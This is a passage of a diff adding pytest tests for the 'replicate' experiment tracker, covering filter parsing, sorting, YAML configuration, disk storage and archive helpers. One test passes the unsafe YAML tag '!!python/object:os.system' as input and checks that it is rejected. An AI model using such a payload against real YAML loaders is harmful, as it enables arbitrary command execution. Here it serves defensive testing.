+                        "foo foo": "bar bar", "note": "salt and pepper", "both": "param", "a/b:c.d-e": 1, "nan": "[NaN]",
+                        "text3": "3", "notes": 1, "input": 5, "order": 2, "android": "x"},
+                metrics={"loss": 0.25, "acc": 1, "both": 2.5})
+
+
+@pytest.mark.parametrize("text", [
+    "lr = 0.1", "lr == 0.1", "lr=0.1", "lr != 0.2", "lr < 0.2", "lr<=0.1", "lr > 0", "lr >= .1", "n = 3.0", "n = 3e0",
+    "n != 4", "n > -1", "acc = 1.0", "loss < 1", "name = adam", "name > aaron", "name < b", "name ~ ^a.*m$", "name ~ da",
+    "on = true", "on = True", "on != false", "nothing = null", "nothing = None", "absent = null", "absent == None",
+    "layers = [1, 2]", "layers != [1]", "o = {\"a\": 1}", "foo foo >= bar bar", "\"foo foo\" = \"bar bar\"",
+    "'foo foo' = 'bar bar'", "note = salt and pepper", "note = 'salt and pepper'", "a/b:c.d-e = 1", "params.a/b:c.d-e = 1",
+    "both = 2.5", "metrics.both = 2.5", "params.both = param", "n in [1, 2, 3]", "n in [3.0]", "name in [sgd, adam]",
+    "name in ['adam']", "name in [\"adam\", 3]", "on in [true]", "on != 1", "on != yes", "n != three", "text3 = '3'",
+    "text3 != 3", "nan = NaN", "step = 20", "step >= 20", "checkpoints = 1", "user = andreas", "host = 10.1.1.1",
+    "command ~ train", "status = stopped", "status != running", "id ~ ^1eee", "id = " + hex_id("1e"), "duration > 3600",
+    "lr = 0.1 and n = 3", "lr = 1 or n = 3", "not lr = 1", "not (lr = 0.1 and n = 4)", "(lr = 1 or n = 3) and name = adam",
+    "lr = 1 and n = 4 or name = adam", "name = adam or lr = 1 and n = 4", "not not n = 3", "not lr = 1 and n = 3",
+    "note = salt and pepper and n = 3", "note = salt and pepper or lr = 9", "  n   =   3  ", "( n = 3 )", "((n = 3))",
+    "note = salt and pepper and not n = 4", "note = salt and pepper and (n = 3)", "notes = 1", "input = 5", "order = 2",
+    "android = x", "n in [1, 3] and lr = 0.1", "not n in [1, 2]", "n = 3 and notes = 1 and order = 2"])
+def test_filters_that_hold(text):
+    assert matches(text, make_row(primary=("loss", "minimize"), **FILTERED))
+
+
+@pytest.mark.parametrize("text", [
+    "lr = 0.2", "lr != 0.1", "lr < 0.1", "lr <= 0.09", "lr > 0.1", "lr >= 1", "name = sgd", "name ~ ^d", "n ~ 3",
+    "on = false", "on = 1", "on = 'true'", "n = '3'", "n > '1'", "name > 1", "text3 = 3", "text3 > 1", "nothing != null",
+    "nothing != 3", "absent != 3", "absent = 0", "absent < 1", "absent ~ .", "absent in [1]", "nothing in [1]",
+    "name = null", "layers = [1]", "layers > [0]", "both = param", "n in [1, 2]", "n in ['3']", "n in []", "on in [1]",
+    "status = running", "lr = 0.1 and n = 4", "lr = 1 or n = 4", "not lr = 0.1", "(lr = 1 or n = 3) and name = sgd",
+    "params.loss = 0.25", "metrics.lr = 0.1", "note = salt", "nan > 0", "nan = 0", "o > 1", "user = ben", "step = 0",
+    "not (n = 3 or lr = 9)", "on > false and n = 4", "foo = bar bar"])
+def test_filters_that_do_not_hold(text):
+    assert not matches(text, make_row(primary=("loss", "minimize"), **FILTERED))
+
+
+def test_filters_on_a_metric_use_the_best_checkpoint_or_the_latest():
+    checkpoints = [checkpoint_document("a1", "2006-01-02T15:00:01Z", 1, {"loss": 0.1}, None, ("loss", "minimize")),
+                   checkpoint_document("a2", "2006-01-02T15:00:02Z", 2, {"loss": 0.5})]
+    row = make_summary(*checkpoints)
+    assert matches("loss = 0.1", row) and matches("step = 2", row) and matches("checkpoints = 2", row)
+    checkpoints[0]["primary_metric"] = None
+    assert matches("loss = 0.5", make_summary(*checkpoints))
+    empty = make_summary()
+    assert matches("step = 0", empty) and matches("duration = null", empty) and matches("loss = null", empty)
+    assert matches("checkpoints = 0", empty) and matches("status = running", make_summary(running=True))
+
+
+def test_text_fields_compare_as_text():
+    row = make_row(user="123", host="null", command="true")
+    assert matches("user = 123", row) and matches("command = true", row) and matches("host = 'null'", row)
+    assert matches("user in [123, 4]", row) and not matches("host = null", row) and matches("host = null", make_row(host=None))
+
+
+def test_started_takes_dates_and_times(monkeypatch):
+    row = make_row(created="2006-01-02T14:54:05.5Z")
+    for text in ("started = 2006-01-02", "started = '2006-01-02'", "started = 2006-01-02 14:54", "created >= 2006-01-02",
+                 "started <= 2006-01-02", "started > 2006-01-01", "started < 2006-01-03", "started = 2006-01-02T14:54:05Z",
+                 "started = 2006-01-02 16:54:05+02:00", "started != 2006-01-03", "started < 2 hours ago",
+                 "started < an hour ago", "started != null", "not started = null", "started >= 2006-01-02 14:54:05.5",
+                 "started < 3 weeks ago and created < 1 second ago"):
+        assert matches(text, row), text
+    for text in ("started = 2006-01-03", "started < 2006-01-02", "started > 2006-01-02", "started = 2006-01-02 14:53",
+                 "started > 2 hours ago", "started = null", "started != 2006-01-02"):
+        assert not matches(text, row), text
+    monkeypatch.setenv("TZ", "<+08>-8")
+    time.tzset()
+    try:
+        assert matches("started = 2006-01-02 22:54", row) and not matches("started = 2006-01-02 14:54", row)
+    finally:
+        monkeypatch.undo()
+        time.tzset()
+    recent = make_row(created=replicate.timestamp(time.time() - 3000))
+    assert matches("started > 1 hour ago", recent) and not matches("started > 49 minutes ago", recent)
+
+
+@pytest.mark.parametrize("text", [
+    "", "   ", "foo", "foo >> bar", "foo => bar", "= 3", "foo =", "foo = ", "\"\" = 3", "foo = 'bar", "foo = 'bar' baz",
+    "\"foo = 3", "(foo = 3", "foo = 3 and (bar = 4", "and", "not", "(", ")", "not foo", "foo ~ (", "foo ~ *", "foo in bar",
+    "foo in 3", "foo in [1, , 2]", "foo in [1", "started = yesterday", "started = 2006-13-01", "started > 2006-01-02 25:00",
+    "started = 3", "started in [2006-01-02]", "started < 99999999 weeks ago", "(" * 60 + "a = 1" + ")" * 60,
+    "not " * 60 + "a = 1", "foo & bar", "foo ! 3", "@ = 3", "(foo = 3) bar", "() = 3"])
+def test_malformed_filters_show_the_format(text):
+    with pytest.raises(replicate.ReplicateError) as caught:
+        replicate.parse_filter(text)
+    assert '"<name> <operator> <value>"' in str(caught.value) and "character" in str(caught.value)
+    assert json.dumps(text) in str(caught.value)
+
+
+def test_a_regular_expression_on_a_time_is_refused_or_answered():
+    try:
+        matches("started ~ 2006", make_row())
+    except replicate.ReplicateError:
+        pass
+
+
+def test_names_may_start_with_a_joining_word():
+    row = make_row(params={"not-frozen": 3, "and.x": 4, "or/y": 5, "not.z": 6, "note": "salt"})
+    for text in ("not-frozen = 3", "and.x = 4", "or/y = 5", "not.z = 6", "note = salt and not-frozen = 3", "not not-frozen = 4"):
+        assert matches(text, row), text
+
+
+def test_what_looks_like_a_join_inside_a_value_stays_text():
+    row = make_row(params={"note": "a and b or (c) d", "paren": "f(x)", "tail": "x and", "q": "it's"})
+    for text in ("note = a and b or (c) d", "paren = f(x)", "(paren = f(x))", "tail = x and", "q = it's",
+                 "paren = f(x) and tail = x and"):
+        assert matches(text, row), text
+
+
+@hypothesis.given(st.lists(st.sampled_from(["foo", "lr", "started", "user", "and", "or", "not", "in", "(", ")", "[", "]", "=",
+                                            "!=", "<=", ">>", "~", "'", '"', " ", "  ", "3", "0.5", "null", "true", "2006-01-02",
+                                            "2 hours ago", "[1,2]", "{", ",", "\\", "*", "\t", "\n", "\u0662", "e5", "[a"]) |
+                           st.text(max_size=3), max_size=14).map(" ".join) | st.text(max_size=30))
+@hypothesis.settings(max_examples=500)
+def test_parsing_any_filter_raises_only_our_error(text):
+    try:
+        tree = replicate.parse_filter(text)
+    except replicate.ReplicateError as error:
+        assert '"<name> <operator> <value>"' in str(error)
+        return
+    assert all(isinstance(name, str) for name in tree.names())
+    if "~" not in text or "started" not in text:  # that pair has a test of its own
+        assert tree.matches(make_row(**FILTERED)) in (True, False)
+
+
+@pytest.mark.parametrize("text", [
+    "a" * 20000, "a " * 10000, " " * 20000 + "x", "a = " + "b and " * 3000, "a = " + " " * 5000 + "b", "a " * 5000 + "= 1",
+    "a = " + "x and b = " * 3000 + "1", "a = " + "(" * 20000, "a = 1 and " * 3000 + "b = 2", "a in [" + "1," * 20000 + "1]",
+    "a in [" + "[" * 20000 + "]", "a = " + "9" * 20000, "a = " + "[" * 100000, "a ~ " + "(" * 5000 + ")" * 5000,
+    "not" * 10000, "- " * 10000 + "=", "a = 'x' " + "or " * 10000, "a = " + "and or not ( " * 1000,
+    "a = " + "x  " * 3000])
+def test_long_filters_are_answered(text):
+    try:
+        replicate.parse_filter(text)
+    except replicate.ReplicateError:
+        pass
+
+
+def test_rows_sort_by_kind_with_missing_values_last():
+    values = {"a": 3, "b": None, "c": "x", "d": 1.5, "e": "[NaN]", "f": True, "g": [1], "h": "abc", "i": ABSENT_PARAM}
+    rows = [make_row({"v": value} if value is not ABSENT_PARAM else {}, created="2006-01-02T14:54:%02dZ" % number, user=name)
+            for number, (name, value) in enumerate(values.items())]
+    order = lambda *key: "".join(row.data["user"] for row in replicate.sort_rows(rows, *key))  # noqa: E731
+    assert order("v", False) == "dafhcgbei"
+    assert order("v", True) == "gchfadbei"
+    assert order("params.v", False) == "dafhcgbei"
+    assert order("started", False) == "abcdefghi" and order("created", True) == "ihgfedcba"
+
+
+ABSENT_PARAM = object()
+
+
+def test_rows_of_equal_values_sort_by_start_time_either_way():
+    rows = [make_row({"v": 1}, created="2006-01-02T14:54:05.%dZ" % part, user=str(part)) for part in (1, 2, 3)]
+    for descending in (False, True):
+        assert [row.data["user"] for row in replicate.sort_rows(rows, "v", descending)] == ["1", "2", "3"]
+
+
+@pytest.mark.parametrize("key, wanted", [("loss", ("loss", False)), ("loss-desc", ("loss", True)), ("loss-asc", ("loss", False)),
+                                         ("a-desc-asc", ("a-desc", False)), (" x ", ("x", False))])
+def test_sort_keys(key, wanted):
+    assert replicate.parse_sort(key) == wanted
+
+
+@pytest.mark.parametrize("key", ["", "-desc", "  ", "-asc"])
+def test_empty_sort_keys_are_errors(key):
+    with pytest.raises(replicate.ReplicateError, match="empty"):
+        replicate.parse_sort(key)
+
+
+def test_sort_and_filter_on_the_command_line(project, call):
+    write_repository(project / "repo", *[experiment_document(hex_id("%de" % number), "2006-01-02T14:54:%02dZ" % number,
+                                                             {"lr": lr}) for number, lr in enumerate([0.3, 0.1, 0.2])])
+    first = lambda out: [line[0] for line in out.split()]  # noqa: E731
+    assert first(call("ls", "-q", "--sort", "lr")[1]) == ["1", "2", "0"]
+    assert first(call("ls", "-q", "--sort=lr-desc")[1]) == ["0", "2", "1"]
+    for key in ("user", "user-desc", "absent", "absent-desc", "started"):  # of equals the oldest first
+        assert first(call("ls", "-q", "--sort", key)[1]) == ["0", "1", "2"]
+    assert first(call("ls", "-q", "--sort", "started-desc")[1]) == ["2", "1", "0"]
+    assert first(call("ls", "-q", "-f", "lr < 0.3", "-f", "lr > 0.1")[1]) == ["2"]
+    assert first(call("ls", "-q", "-f", "lr = 0.3 or lr = 0.1")[1]) == ["0", "1"]
+    code, out, err = call("ls", "-f", "lrr = 3")
+    assert "lrr" in err and "'lr'" in err
+    code, out, err = call("ls", "-f", "foo >> bar")
+    assert code == 1 and "<name> <operator> <value>" in err and out == ""
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 5  Configuration and storage
+# ------------------------------------------------------------------------------------------------------------------
+
+def write_config(project, text, name="replicate.yaml"):
+    for old in replicate.CONFIG_NAMES:
+        if (project / old).exists():
+            (project / old).unlink()
+    (project / name).write_bytes(text if isinstance(text, bytes) else text.encode())
+
+
+@pytest.mark.parametrize("text, url", [
+    ("repository: s3://my-bucket\n", "s3://my-bucket"), ("repository: 's3://my-bucket/root'", "s3://my-bucket/root"),
+    ('# a comment\n\nrepository: "gs://b"  # here\n', "gs://b"), ("\ufeffrepository: gs://b\r\n", "gs://b"),
+    ("---\nrepository: gs://b\n", "gs://b"), ("{repository: gs://b}", "gs://b"), ("repository: >-\n  gs://b\n", "gs://b"),
+    ("'repository' : gs://b\n", "gs://b"), ("repository: s3://b/\n", "s3://b")])
+def test_configurations_that_are_read(project, text, url):
+    write_config(project, text)
+    if url.startswith(tuple(scheme + "://" for scheme in replicate.BACKENDS)):
+        location = replicate.find_location()
+        assert (location.directory, location.url) == (str(project), url)
+    assert replicate.read_config("replicate.yaml")["repository"].rstrip("/") == url
+
+
+@pytest.mark.parametrize("text, words", [
+    ("", ["empty", "repository"]), ("# only a comment\n", ["empty"]), ("{}", ["empty"]), ("- repository\n- x\n", ["key: value"]),
+    ("just text", ["key: value"]), ("repo: file://x\n", ["'repo'", "'repository'", "'storage'"]),
+    ("repository: file://x\nstorage: file://y\n", ["both"]), ("repository:\n", ["URL"]), ("repository: ''\n", ["URL"]),
+    ("repository: [a]\n", ["URL"]), ("repository: 3\n", ["URL"]), ("repository: {a: b}\n", ["URL"]),
+    ("repository: file://x\nextra: 'y'\n", ["'extra'", "'repository'"]), ("repository: 'x\n", ["YAML"]),
+    ("a: b: c\n", ["YAML"]), (b"repository: \xff\n", ["cannot be read"]), ("\trepository: x\n", ["YAML"]),
+    ("repository: my-bucket\n", ["file://"]), ("repository: http://x\n", ["http://x", "file://"]),
+    ("repository: 'file://'\n", ["directory"]), ("[" * 20000, ["YAML"])])
+def test_configurations_that_are_refused(project, text, words):
+    write_config(project, text)
+    with pytest.raises(replicate.RepositoryConfigurationError) as caught:
+        replicate.find_location()
+    for word in words:
+        assert word in str(caught.value)
+
+
+@pytest.mark.parametrize("text", ["repository: !!bool x\n", "repository: !!timestamp x\n", "repository: !!int ''\n",
+                                  "repository: !!python/object:os.system x\n", "repository: \x07\n", "? [a, b]\n: c\n"])
+def test_yaml_that_breaks_pyyaml_is_one_error(project, text):
+    write_config(project, text)
+    with pytest.raises(replicate.RepositoryConfigurationError):
+        replicate.find_location()
+
+
+def test_an_unknown_scheme_lists_the_three(project):
+    write_config(project, "repository: ftp://x\n")
+    with pytest.raises(replicate.RepositoryConfigurationError) as caught:
+        replicate.find_location()
+    assert all(scheme in str(caught.value) for scheme in ("file://", "s3://", "gs://"))
+
+
+def test_the_old_name_storage_warns(project, capsys):
+    write_config(project, "storage: file://old\n")
+    assert replicate.find_location().url == "file://%s/old" % project
+    assert "deprecated" in capsys.readouterr().err
+    write_config(project, "repository: file://new\n")
+    assert replicate.find_location().url == "file://%s/new" % project
+    assert capsys.readouterr().err == ""
+
+
+@pytest.mark.parametrize("name", ["replicate.yaml", "replicate.yml", "keepsake.yaml"])
+def test_the_configuration_is_searched_upward(project, monkeypatch, name):
+    write_config(project, "repository: file://here\n", name)
+    below = project / "a" / "b" / "c"
+    below.mkdir(parents=True)
+    monkeypatch.chdir(below)
+    location = replicate.find_location()
+    assert (location.directory, location.url, location.is_default) == (str(project), "file://%s/here" % project, False)
+    (project / "a" / "replicate.yaml").write_text("repository: file:///elsewhere\n")
+    location = replicate.find_location()
+    assert (location.directory, location.url) == (str(project / "a"), "file:///elsewhere")
+
+
+def test_the_search_ends_after_a_hundred_levels(tmp_path, monkeypatch):
+    (tmp_path / "replicate.yaml").write_text("repository: file://top\n")
+    deep = tmp_path.joinpath(*["d"] * 99)
+    deep.mkdir(parents=True)
+    assert replicate._search_upward(str(deep), replicate.CONFIG_NAMES, replicate.CONFIG_SEARCH_DEPTH)
+    (deep / "d").mkdir()
+    assert replicate._search_upward(str(deep / "d"), replicate.CONFIG_NAMES, replicate.CONFIG_SEARCH_DEPTH) is None
+
+
+def test_argument_then_environment_then_configuration(project, monkeypatch):
+    assert replicate.find_location().url == "file://%s/repo" % project
+    monkeypatch.setenv("REPLICATE_REPOSITORY", "file://env")
+    assert replicate.find_location().url == "file://%s/env" % project
+    assert replicate.find_location("file://argument").url == "file://%s/argument" % project
+    write_config(project, "nonsense: [")
+    assert replicate.find_location().url == "file://%s/env" % project
+    monkeypatch.setenv("REPLICATE_REPOSITORY", "nonsense")
+    with pytest.raises(replicate.RepositoryConfigurationError, match="nonsense"):
+        replicate.find_location()
+
+
+def test_the_project_directory_argument(project, tmp_path, monkeypatch):
+    monkeypatch.chdir(tmp_path)
+    location = replicate.find_location(directory="project")
+    assert (location.directory, location.url) == (str(project), "file://%s/repo" % project)
+    (project / "sub").mkdir()
+    location = replicate.find_location("file://r", "project/sub")
+    assert (location.directory, location.url) == (str(project / "sub"), "file://%s/sub/r" % project)
+    with pytest.raises(replicate.ConfigNotFound, match="nowhere"):
+        replicate.find_location(directory="nowhere")
+
+
+def test_without_configuration_the_embedded_default_is_used(tmp_path, monkeypatch):
+    location = replicate.find_location()
+    assert (location.directory, location.url, location.is_default) == (str(tmp_path / "project"), None, True)
+    (tmp_path / "project/.replicate/storage").mkdir(parents=True)
+    below = tmp_path / "project/a/b"
+    below.mkdir(parents=True)
+    monkeypatch.chdir(below)
+    location = replicate.find_location()
+    assert (location.directory, location.is_default) == (str(tmp_path / "project"), True)
+    assert location.url == "file://%s/project/.replicate/storage" % tmp_path
+
+
+def test_file_urls_are_made_absolute(project, monkeypatch):
+    for url, wanted in [("file://a/../b", "%s/b" % project), ("file:///x/y/", "/x/y"), ("file://./r", "%s/r" % project),
+                        ("file://~/r", "%s/r" % os.environ["HOME"]), ("file:///", "/")]:
+        assert replicate.absolute_url(url, str(project)) == "file://" + wanted
+    for url in ("file://", "x", "", "://x", "FILE://x", "file:x", "file:///a\0b"):
+        with pytest.raises(replicate.RepositoryConfigurationError):
+            replicate.absolute_url(url, str(project))
+
+
+def test_flat_configurations_need_no_pyyaml(project):
+    source = """
+        import sys
+        sys.modules['yaml'] = None
+        import replicate
+        try:
+            print(replicate.find_location().url)
+        except replicate.RepositoryConfigurationError as error:
+            print(error)
+    """
+    for text in ("repository: s3://b\n".replace("s3", "file"), "# c\nrepository: 'file://b' # d\n", 'repository: "file://b"\n'):
+        write_config(project, text)
+        assert run_script(source).stdout == "file://%s/b\n" % project
+    write_config(project, "repository: >-\n  file://b\n")
+    assert "pip install PyYAML" in run_script(source).stdout
+    write_config(project, "unknown: 'x'\n")
+    assert "unknown key" in run_script(source).stdout
+
+
+@hypothesis.given(st.lists(st.lists(st.sampled_from(
+    ["repository", "storage", "a", ": ", ":", " ", "  ", "'", '"', "#", " #", "s3://b", "file://x/y", "-", "http://a:b", "x",
+     "\t", "\\", "%", "é", "1", "0x1", "~", "null", "://", "?", "=", ".", ",", "[", "}", "&", "*", "!", "|", ">", "@", "`",
+     "\x85", "\u2028", "\x0c", "\x0b", "\x1c", "\x07", "\ufeff", "\u00a0", "\U0001f600"]), max_size=7).map("".join) |
+    st.sampled_from(["repository: s3://b", "# comment", "", "a: 'x'", 'storage: "y z"']), max_size=4),
+    st.sampled_from(["\n", "\r\n", "\n\n"]))
+@hypothesis.settings(max_examples=1000)
+def test_what_the_flat_reader_accepts_is_what_yaml_says(lines, end):
+    yaml = pytest.importorskip("yaml")
+    text = end.join(lines)
+    values = replicate.read_flat_yaml(text)
+    if values is not None:
+        assert (yaml.safe_load(text) or {}) == values
+
+
+@pytest.mark.parametrize("mark", ["\x0b", "\x0c", "\x1c", "\x07", "\x00"])
+def test_the_flat_reader_leaves_control_characters_to_yaml(mark):
+    for text in ("repository: s3://b" + mark, "#" + mark + "\nrepository: s3://b", "repository: s3://b" + mark + "# x"):
+        assert replicate.read_flat_yaml(text) is None
+
+
+def make_storage(tmp_path):
+    return replicate.DiskStorage(str(tmp_path / "store"))
+
+
+def test_disk_storage_writes_lists_reads_and_deletes(tmp_path):
+    storage = make_storage(tmp_path)
+    storage.prepare()
+    assert list(storage.list("metadata/experiments/")) == []
+    storage.write("a/b/one", b"0123456789")
+    storage.write("a/b/two", b"")
+    storage.write("a/three", b"x")
+    assert {entry.key: entry.size for entry in storage.list("a/b/")} == {"a/b/one": 10, "a/b/two": 0}
+    assert [entry.name for entry in storage.list("a/")] == ["three"]
+    assert storage.read("a/b/one") == b"0123456789"
+    for start, end, wanted in [(0, None, b"0123456789"), (3, None, b"3456789"), (3, 5, b"34"), (0, 0, b""), (8, 99, b"89"),
+                               (20, 30, b"")]:
+        with storage.open("a/b/one", start, end) as stream:
+            assert stream.read() == wanted
+        with storage.open("a/b/one", start, end) as stream:
+            assert b"".join(iter(lambda: stream.read(1), b"")) == wanted
+    entry = storage.stat("a/b/one")
+    storage.write("a/b/one", b"abcdefghij")
+    assert storage.stat("a/b/one").version != entry.version and storage.stat("a/b/one").size == 10
+    storage.delete(["a/b/one", "a/b/missing", "a/three/nonsense", "a/three"])
+    assert tree(tmp_path / "store") == {"a/b/two": b""}
+    for use in (storage.read, storage.stat, storage.open):
+        with pytest.raises(replicate.DoesNotExist, match="a/b/one"):
+            use("a/b/one")
+
+
+def test_disk_storage_never_shows_half_a_write(tmp_path):
+    """A reader in another process sees the old content or the new one, whole."""
+    storage = make_storage(tmp_path)
+    storage.write("x", b"a" * 300000)
+    reader = subprocess.Popen([sys.executable, "-c", textwrap.dedent("""
+        import sys, replicate
+        storage = replicate.DiskStorage(sys.argv[1])
+        seen = set()
+        print("ready", flush=True)
+        while True:
+            data = storage.read("x")
+            assert len(data) == 300000 and len(set(data)) == 1, len(data)
+            seen.add(data[:1])
+            if data[:1] == b"z":
+                print(len(seen))
+                break
+    """), storage.root], stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    assert reader.stdout.readline() == b"ready\n"
+    for letter in (b"bcdefghijklmnopqrstuvwxy" * 4) + b"z":
+        storage.write("x", bytes([letter]) * 300000)
+    out, err = reader.communicate(timeout=60)
+    assert reader.returncode == 0, err
+    assert int(out) >= 1
+    assert sorted(tree(storage.root)) == ["x"]
+
+
+def test_disk_storage_leaves_nothing_behind_where_a_write_fails(tmp_path):
+    storage = make_storage(tmp_path)
+    storage.write("a/doc", b"old")
+    (tmp_path / "store/a/dir/inner").mkdir(parents=True)
+    with pytest.raises(replicate.WriteError, match="a/dir"):
+        storage.write("a/dir", b"new")
+    with pytest.raises(replicate.WriteError):
+        storage.write("a/doc/below", b"new")
+    assert tree(tmp_path / "store") == {"a/doc": b"old"}
+    with pytest.raises(replicate.WriteError, match="a/dir"):
+        storage.delete(["a/dir"])
+
+
+def test_a_full_disk_leaves_the_old_content(tmp_path):
+    storage = make_storage(tmp_path)
+    storage.write("doc.json", b"old")
+    done = run_script("""
+        import resource, signal, sys, replicate
+        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+        resource.setrlimit(resource.RLIMIT_FSIZE, (5000, 5000))
+        storage = replicate.DiskStorage(sys.argv[1])
+        for attempt in (lambda: storage.write("doc.json", b"n" * 20000), lambda: storage.write("new/doc", b"n" * 20000),
+                        lambda: storage.update("doc.json", lambda old: old * 20000)):
+            try:
+                attempt()
+            except replicate.WriteError as error:
+                print(error)
+    """, storage.root)
+    assert done.stdout.count("could not be written: File too large") == 3
+    assert tree(storage.root) == {"doc.json": b"old"}
+
+
+@pytest.mark.skipif(not os.path.exists("/dev/full"), reason="needs Linux")
+def test_a_repository_that_cannot_be_made_is_a_write_error(tmp_path):
+    (tmp_path / "file").write_bytes(b"")
+    for root in (tmp_path / "file" / "store", Path("/proc/store")):
+        with pytest.raises(replicate.WriteError, match="cannot be written"):
+            replicate.DiskStorage(str(root)).prepare()
+        with pytest.raises(replicate.WriteError):
+            replicate.DiskStorage(str(root)).update("x", lambda old: b"new")
+
+
+def test_disk_storage_does_not_hang_on_a_fifo_or_fall_over_a_directory(tmp_path):
+    storage = make_storage(tmp_path)
+    storage.write("metadata/experiments/good.json", b"{}")
+    os.mkfifo(str(tmp_path / "store/metadata/experiments/fifo.json"))
+    (tmp_path / "store/metadata/experiments/directory.json").mkdir()
+    os.symlink("nowhere", str(tmp_path / "store/metadata/experiments/dangling.json"))
+    assert sorted(entry.name for entry in storage.list("metadata/experiments/")) == ["fifo.json", "good.json"]
+    for name in ("fifo.json", "directory.json"):
+        with pytest.raises(replicate.ReadError, match=name):
+            storage.read("metadata/experiments/" + name)
+    with pytest.raises(replicate.DoesNotExist):
+        storage.read("metadata/experiments/dangling.json")
+
+
+@pytest.mark.skipif(not os.path.isdir("/proc/self/fd"), reason="needs /proc")
+def test_a_refused_read_leaves_no_file_open(tmp_path):
+    storage = make_storage(tmp_path)
+    (tmp_path / "store/directory").mkdir(parents=True)
+    os.mkfifo(str(tmp_path / "store/fifo"))
+    before = len(os.listdir("/proc/self/fd"))
+    for _ in range(5):
+        for name in ("directory", "fifo"):
+            with pytest.raises(replicate.ReadError):
+                storage.read(name)
+    assert len(os.listdir("/proc/self/fd")) == before
+
+
+def test_updates_change_add_and_leave(tmp_path):
+    storage = make_storage(tmp_path)
+    storage.update("d/x", lambda old: b"first" if old is None else pytest.fail("there is none"))
+    storage.update("d/x", lambda old: old + b" second")
+    assert storage.read("d/x") == b"first second"
+    storage.update("d/x", lambda old: None)
+    assert tree(storage.root) == {"d/x": b"first second"}
+
+
+def test_updates_of_two_processes_lose_nothing(tmp_path):
+    storage = make_storage(tmp_path)
+    source = """
+        import sys, replicate
+        storage = replicate.DiskStorage(sys.argv[1])
+        for _ in range(150):
+            storage.update("count", lambda old: b"%d" % (int(old or 0) + 1))
+    """
+    others = [subprocess.Popen([sys.executable, "-c", textwrap.dedent(source), storage.root]) for _ in range(3)]
+    for other in others:
+        assert other.wait(120) == 0
+    assert storage.read("count") == b"450"
+    assert sorted(tree(storage.root)) == ["count"]
+
+
+def test_a_file_lock_holds_between_processes_and_dies_with_its_holder(tmp_path):
+    path = str(tmp_path / "x.lock")
+    holder = subprocess.Popen([sys.executable, "-c", textwrap.dedent("""
+        import sys, time, replicate
+        lock = replicate.FileLock(sys.argv[1])
+        assert lock.acquire()
+        print("held", flush=True)
+        time.sleep(100)
+    """), path], stdout=subprocess.PIPE)
+    try:
+        assert holder.stdout.readline() == b"held\n"
+        lock = replicate.FileLock(path)
+        assert lock.acquire(wait=False) is False
+        holder.kill()
+        holder.wait()
+        assert lock.acquire(wait=True) is True
+        assert replicate.FileLock(path).acquire(wait=False) is False
+        lock.release()
+        assert not os.path.exists(path)
+        with replicate.FileLock(path):
+            assert os.path.exists(path)
+    finally:
+        holder.kill()
+        holder.wait()
+        holder.stdout.close()
+
+
+def test_prepare_removes_only_what_is_old_in_tmp(tmp_path):
+    storage = make_storage(tmp_path)
+    storage.write("tmp/old", b"")
+    storage.write("tmp/new", b"")
+    os.utime(storage.path("tmp/old"), (time.time() - 2 * 86400,) * 2)
+    storage.prepare()
+    assert list(tree(storage.root)) == ["tmp/new"]
+
+
+# ------------------------------------------------------------------------------------------------------------------
+# 6  Archives: ignore rules, pack, unpack
+# ------------------------------------------------------------------------------------------------------------------
+
+PACKED_ID = "ab" * 32
+
+
+def fill(directory, files):
+    """Make files of {name: content} below a directory."""
+    for name, content in files.items():
+        path = os.path.join(os.fsencode(str(directory)), name if isinstance(name, bytes) else os.fsencode(name))
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        with open(path, "wb") as file:
+            file.write(content)
+
+
+def source_names(directory, path=".", **options):
+    warnings = options.pop("warnings", [])
+    return [source.name for source in replicate.find_sources(str(directory), path, warn=warnings.append, **options)]
+
+
+def pack_tree(tmp_path, directory, path=".", compress=True, key="checkpoints/%s.tar.gz" % PACKED_ID, name="store"):
+    """Pack a directory into a repository with replicate.pack; returns (repository, writer)."""
+    target = tmp_path / name / key
+    target.parent.mkdir(parents=True, exist_ok=True)
+    with open(str(target), "wb", 0) as file:
+        writer = replicate.pack(file, PACKED_ID, replicate.find_sources(str(directory), path), compress)
+    return replicate.Repository("file://%s" % (tmp_path / name)), writer
+
+
+def archive_path(repository):
+    return repository.storage.path("checkpoints/%s.tar.gz" % PACKED_ID)
+
+
+def read_archive(repository):
+    """{name: content} through our own reader, with its errors translated as every command does it."""
+    with replicate.reading_archive(repository, "checkpoints", PACKED_ID):
+        return {member.name: b"".join(pieces) for member, pieces in
+                repository.archive("checkpoints", PACKED_ID).files(lambda name: True, PACKED_ID)}
+
+
+def read_one(repository, name):
+    """The content of one file through the table of contents, or None."""
+    with replicate.reading_archive(repository, "checkpoints", PACKED_ID):
+        target = io.BytesIO()
+        found = repository.archive("checkpoints", PACKED_ID).copy_file(name, PACKED_ID, target)
+        return target.getvalue() if found else None
+
+
+def store_bytes(tmp_path, data, name="store"):
+    """A repository whose one archive has these bytes."""
+    repository = replicate.Repository("file://%s" % (tmp_path / name))
+    os.makedirs(os.path.dirname(archive_path(repository)), exist_ok=True)
+    Path(archive_path(repository)).write_bytes(data)
+    return repository
+
+
+IGNORE_NAMES_OF_FILES = ["a", "b", "ab", "a b", "a ", "#a", "!a", "[a]", "a.b", "A", "-", "]", "*", "?", "\u00e9", "1", "aab", "^"]
+IGNORE_PATTERNS = st.lists(st.sampled_from(
+    ["a", "b", "a", "b", "/", "/", "*", "**", "**/", "/**", "/**/", "?", "[ab]", "[!a]", "[^a]", "[a-b]", "[", "]", "!", "\\", "\\ ",
+     "\\*", "\\[", "\\]", " ", "#", "\\#", "\\!", ".", "-", "[]a]", "[!]a]", "[a-", "[b-a]", "[\\]]", "[[:alpha:]]", "[[:digit:]",
+     "[![:upper:]]", "[[:nope:]]", "[a/b]", "[--/]", "\u00e9", "{a,b}", "\t", "\r", "***", "[\\a-b]", "[[:al]", "1", "[*]", "[?-]",
+     "^"]), min_size=1, max_size=6).map("".join)
+
+
+@pytest.fixture
+def git_repository(tmp_path):
+    if not shutil.which("git"):
+        pytest.skip("needs git")
+    directory = tmp_path / "git"
+    directory.mkdir()
+    subprocess.run(["git", "init", "-q", str(directory)], check=True, capture_output=True)
+    return directory
+
+
+def git_keeps(directory):
+    """The files that git itself would not ignore."""
+    done = subprocess.run(["git", "-c", "core.excludesFile=/dev/null", "ls-files", "-o", "-z", "--exclude-from",
+                           str(directory / ".replicateignore")], cwd=str(directory), check=True, capture_output=True)
